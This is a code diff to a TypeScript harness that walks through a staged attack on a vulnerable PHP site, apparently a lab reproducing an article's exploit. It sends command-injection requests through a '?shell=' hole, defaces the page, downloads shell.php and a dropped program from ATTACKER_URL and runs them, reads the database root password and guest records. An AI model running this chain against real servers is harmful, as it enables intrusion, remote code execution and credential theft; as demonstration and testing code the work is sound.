@@ -1,4 +1,5 @@
 /** The article's attack, step by step. Each step is judged by what came back to the attacker, by nothing else. */
+import { createHash, randomBytes } from 'node:crypto';
 import { printable } from '../../src/kernel/index.ts';
 import { type Answer, get } from '../http-client.ts';
 import { ATTACKER_URL } from './attacker-server.ts';
@@ -16,6 +17,13 @@ export interface Target {
   readonly password: string;
   /** Names in the guest book, likewise. */
   readonly guests: readonly string[];
+  /** SHA-256 of the program that is dropped, to know it by. */
+  readonly tool: string;
+}
+
+export interface Attempt extends Target {
+  readonly patienceMs: number;
+  readonly signal: AbortSignal;
 }
 
 export interface StepResult {
@@ -25,19 +33,18 @@ export interface StepResult {
 }
 
 export interface StepDefinition {
-  readonly id: 'execute' | 'deface' | 'download' | 'use' | 'password' | 'processes' | 'database';
+  readonly id: 'execute' | 'deface' | 'download' | 'use' | 'drop' | 'password' | 'processes' | 'database';
   /** What the attacker does, in words. */
   readonly title: string;
   /** As the attacker would type it. */
   readonly request: string;
-  run(target: Target, signal: AbortSignal): Promise<StepResult>;
+  run(attempt: Attempt): Promise<StepResult>;
 }
 
-const ANSWER_WITHIN_MS = 1000;
 const UID = /uid=\d+\([\w-]+\)[^<\n]*/;
 
-function ask(target: Target, path: string, signal: AbortSignal): Promise<Answer> {
-  return get(target.url + path, { timeoutMs: ANSWER_WITHIN_MS, signal });
+function ask({ url, patienceMs, signal }: Attempt, path: string): Promise<Answer> {
+  return get(url + path, { timeoutMs: patienceMs, signal });
 }
 
 const short = (text: string) => printable(text.length > 120 ? `${text.slice(0, 117)}...` : text);
@@ -49,10 +56,10 @@ const refused = (evidence: string): StepResult => ({ outcome: 'refused', evidenc
 const worked = (evidence: string): StepResult => ({ outcome: 'worked', evidence: short(evidence) });
 
 /** A command by the shell when it is there, otherwise by the hole, as an attacker would. */
-async function command(target: Target, words: string, signal: AbortSignal) {
-  const byShell = await ask(target, payload.throughShell(words), signal);
+async function command(attempt: Attempt, words: string) {
+  const byShell = await ask(attempt, payload.throughShell(words));
   if (byShell.status === 200) return { answer: byShell, output: byShell.body.trim(), by: 'shell.php' };
-  const byHole = await ask(target, payload.commandThroughHole(words), signal);
+  const byHole = await ask(attempt, payload.commandThroughHole(words));
   return { answer: byHole, output: payload.markedOutput(byHole.body), by: 'the hole' };
 }
 
@@ -60,8 +67,8 @@ const execute: StepDefinition = {
   id: 'execute',
   title: 'run a command through the hole',
   request: `/?shell=${payload.IDENTIFY}`,
-  async run(target, signal) {
-    const answer = await ask(target, payload.throughHole(payload.IDENTIFY), signal);
+  async run(attempt) {
+    const answer = await ask(attempt, payload.throughHole(payload.IDENTIFY));
     if (answer.failure !== null) return cutOff(answer);
     const found = UID.exec(answer.body)?.[0];
     return found === undefined ? refused(`status ${answer.status}, no uid= in the page`) : worked(found);
@@ -72,10 +79,10 @@ const deface: StepDefinition = {
   id: 'deface',
   title: 'deface the front page',
   request: `/?shell=${payload.DEFACE}`,
-  async run(target, signal) {
-    const answer = await ask(target, payload.throughHole(payload.DEFACE), signal);
+  async run(attempt) {
+    const answer = await ask(attempt, payload.throughHole(payload.DEFACE));
     if (answer.failure !== null) return cutOff(answer);
-    const page = await ask(target, '/', signal);
+    const page = await ask(attempt, '/');
     if (page.failure !== null) return cutOff(page);
     if (page.body.trim() === payload.DEFACEMENT) return worked(`the front page reads: ${page.body.trim()}`);
     return refused('the front page is what it was');
@@ -86,26 +93,46 @@ const download: StepDefinition = {
   id: 'download',
   title: "download shell.php from the attacker's server",
   request: `/?shell=${payload.DOWNLOAD(ATTACKER_URL)}`,
-  async run(target, signal) {
-    const answer = await ask(target, payload.throughHole(payload.DOWNLOAD(ATTACKER_URL)), signal);
+  async run(attempt) {
+    const answer = await ask(attempt, payload.throughHole(payload.DOWNLOAD(ATTACKER_URL)));
     if (answer.failure !== null) return cutOff(answer);
-    const proof = `here-${process.pid}`;
-    const shell = await ask(target, payload.throughShell(`echo ${proof}`), signal);
-    if (shell.failure !== null) return cutOff(shell);
-    if (shell.body.trim() === proof) return worked('/shell.php answers 200');
-    return refused(`/shell.php answers ${shell.status}`);
+    const size = payload.markedOutput(answer.body) ?? 'nothing';
+    return isSize(size) ? worked(`${size} bytes written`) : refused('the file could not be written');
   },
 };
+
+const isSize = (text: string) => /^[1-9]\d*$/.test(text);
 
 const use: StepDefinition = {
   id: 'use',
   title: 'use the shell',
   request: '/shell.php?cmd=id',
-  async run(target, signal) {
-    const answer = await ask(target, payload.throughShell('id'), signal);
+  async run(attempt) {
+    const answer = await ask(attempt, payload.throughShell('id'));
     if (answer.failure !== null) return cutOff(answer);
     const found = UID.exec(answer.body)?.[0];
     return found === undefined ? refused(`/shell.php answers ${answer.status}`) : worked(found);
+  },
+};
+
+const drop: StepDefinition = {
+  id: 'drop',
+  title: 'drop a program and run it',
+  request: `/?shell=${payload.DROP(ATTACKER_URL, 'WORD')}`,
+  async run(attempt) {
+    const word = randomBytes(8).toString('hex');
+    const answer = await ask(attempt, payload.throughHole(payload.DROP(ATTACKER_URL, word)));
+    if (answer.failure !== null) return cutOff(answer);
+    const [size = '', ...output] = (payload.markedOutput(answer.body) ?? '').split('\n');
+    if (!isSize(size)) return refused('the file could not be written');
+    // Nobody could know the word before; and the program names itself by its own bytes.
+    const proof = [
+      `${createHash('sha256').update(word).digest('hex')}  -`,
+      `${attempt.tool}  /proc/self/exe`,
+    ];
+    if (output.join('\n') === proof.join('\n'))
+      return worked(`${size} bytes written; it says what it is: sha256 ${attempt.tool.slice(0, 12)}…`);
+    return refused(`${size} bytes written; ${output[0] ?? 'no output'}`);
   },
 };
 
@@ -113,10 +140,10 @@ const password: StepDefinition = {
   id: 'password',
   title: "read the database's root password",
   request: `/shell.php?cmd=${payload.READ_PASSWORD}`,
-  async run(target, signal) {
-    const { answer, output, by } = await command(target, payload.READ_PASSWORD, signal);
+  async run(attempt) {
+    const { answer, output, by } = await command(attempt, payload.READ_PASSWORD);
     if (answer.failure !== null) return cutOff(answer);
-    if (output === target.password) return worked(`${output.length} characters, the right ones, by ${by}`);
+    if (output === attempt.password) return worked(`${output.length} characters, the right ones, by ${by}`);
     return refused(`not what came back by ${by}`);
   },
 };
@@ -125,8 +152,8 @@ const processes: StepDefinition = {
   id: 'processes',
   title: 'look at the running processes',
   request: '/shell.php?cmd=for p in /proc/[0-9]*; do …',
-  async run(target, signal) {
-    const { answer, output, by } = await command(target, payload.LIST_PROCESSES, signal);
+  async run(attempt) {
+    const { answer, output, by } = await command(attempt, payload.LIST_PROCESSES);
     if (answer.failure !== null) return cutOff(answer);
     const lines = (output ?? '').split('\n').map((line) => line.trim());
     const apache = lines.find((line) => line.includes('apache2'));
@@ -138,11 +165,11 @@ const database: StepDefinition = {
   id: 'database',
   title: 'read the database',
   request: '/?shell=mysqli_query(…, "SELECT name FROM guests");',
-  async run(target, signal) {
-    const answer = await ask(target, payload.throughHole(payload.READ_DATABASE), signal);
+  async run(attempt) {
+    const answer = await ask(attempt, payload.throughHole(payload.READ_DATABASE));
     if (answer.failure !== null) return cutOff(answer);
     const output = payload.markedOutput(answer.body);
-    return output === target.guests.join(', ') ? worked(`guests: ${output}`) : refused('no rows came back');
+    return output === attempt.guests.join(', ') ? worked(`guests: ${output}`) : refused('no rows came back');
   },
 };
 
@@ -153,7 +180,7 @@ const database: StepDefinition = {
 export const STAGES: readonly (readonly StepDefinition[])[] = [
   [execute],
   [deface, download],
-  [use],
+  [use, drop],
   [password],
   [processes],
   [database],
